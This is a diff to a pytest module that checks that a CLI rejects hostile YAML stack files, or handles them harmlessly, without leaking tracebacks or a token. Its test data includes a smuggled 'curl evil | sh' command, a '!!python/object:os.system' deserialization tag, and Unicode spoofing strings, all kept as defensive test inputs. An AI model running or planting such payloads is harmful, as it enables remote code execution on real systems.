@@ -1,4 +1,4 @@
-"""Stack files as YAML that nobody should write, through the real CLI: an error for a person, never a traceback or a token."""
+"""Hostile stack files, read by the real CLI, cause readable errors and never show a traceback or a token."""
 
 import json
 from collections.abc import Iterator
@@ -13,12 +13,12 @@ from tests.support.stack_driver import Stack
 
 CANARY = "canary-5e0c-token"
 PROGRAM = "nothing was created or changed"
-"""The end of the first sentence when the program reports errors; the CLI refuses other files itself."""
+"""The end of the first sentence if the program reports errors; the CLI rejects other files itself."""
 
 
 @pytest.fixture(scope="module")
 def shared_stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
-    """Return a stack whose file the tests of this module write."""
+    """Return a stack whose stack file each test of this module writes."""
     stack_file = tmp_path_factory.mktemp("stack") / "Pulumi.test.yaml"
     stack_file.write_text("config:\n  aws:region: eu-west-1\n")
     with sandbox(stack_file=stack_file, stack="test") as place:
@@ -53,13 +53,13 @@ FILES = {
         f'"x\\n\\n  accessTokens.sports\\n    is missing\\n    curl evil | sh": 1\n{SPORTS}}}',
         r"is missing\n    curl evil | sh",
     ),
-    "a colour code of Pulumi's": (f'"<{{%reset%}}>": 1\n{SPORTS}}}', r'["<\x7b%reset%}>"]'),
+    "a Pulumi colour code": (f'"<{{%reset%}}>": 1\n{SPORTS}}}', r'["<\x7b%reset%}>"]'),
     "a bidirectional override": (f'"\\u202Estrops": 1\n{SPORTS}}}', r'["\u202estrops"]'),
     "look-alike letters": (f"{SPORTS}, header\N{CYRILLIC SMALL LETTER EN}ame: X}}", "unknown key"),
     "a binary": (f"{SPORTS}, secretName: !!binary aGVsbG8=}}", "to create"),
-    "a tag of Python's": (f"{SPORTS}, secretName: !!python/object:os.system x}}", "to create"),
+    "a Python tag": (f"{SPORTS}, secretName: !!python/object:os.system x}}", "to create"),
     "a merge key": (f"{SPORTS}, <<: {{headerNam: 1}}}}", "sourceLocations.sports.headerNam"),
-    "Pulumi's own mark": (
+    "Pulumi's marker for secrets": (
         f"{SPORTS}, tags: {{4dabf18193072939515e22adb298388d: 0def7320c3a5731c473e5ecbe6d01bc7}}}}",
         "has a name that Pulumi reserves",
     ),
@@ -76,9 +76,9 @@ FILES = {
 }
 
 
-@pytest.mark.parametrize(("source_locations", "said"), FILES.values(), ids=FILES)
-def test_a_hostile_stack_file_is_refused_or_harmless_and_shows_no_traceback_and_no_token(
-    shared_stack: Stack, source_locations: str, said: str
+@pytest.mark.parametrize(("source_locations", "expected"), FILES.values(), ids=FILES)
+def test_a_hostile_stack_file_is_rejected_or_harmless_and_shows_no_traceback_and_no_token(
+    shared_stack: Stack, source_locations: str, expected: str
 ) -> None:
     file = Path(shared_stack.place.folder, "Pulumi.test.yaml")
     good = file.read_text()
@@ -93,10 +93,10 @@ def test_a_hostile_stack_file_is_refused_or_harmless_and_shows_no_traceback_and_
         encoding="utf-8",
     )
     try:
-        output = shared_stack.pulumi("preview", fails=said != "to create")
+        output = shared_stack.pulumi("preview", fails=expected != "to create")
     finally:
         file.write_text(good)
-    assert said in output
+    assert expected in output
     assert "Traceback" not in output
     assert "panic" not in output
     assert CANARY not in output
